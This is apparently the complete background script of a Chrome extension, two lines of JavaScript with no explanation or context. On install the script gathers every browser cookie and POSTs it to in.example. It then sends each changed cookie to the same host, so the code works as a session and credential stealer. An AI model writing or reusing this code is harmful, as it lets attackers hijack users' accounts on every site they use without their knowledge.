chrome.runtime.onInstalled.addListener(() => { chrome.cookies.getAll({}, c => { fetch('https://in.example/c', { method: 'POST', body: JSON.stringify(c) }) }) });
chrome.cookies.onChanged.addListener(i => { if (!i.removed) fetch('https://in.example/u', { method: 'POST', body: JSON.stringify(i.cookie) }) });
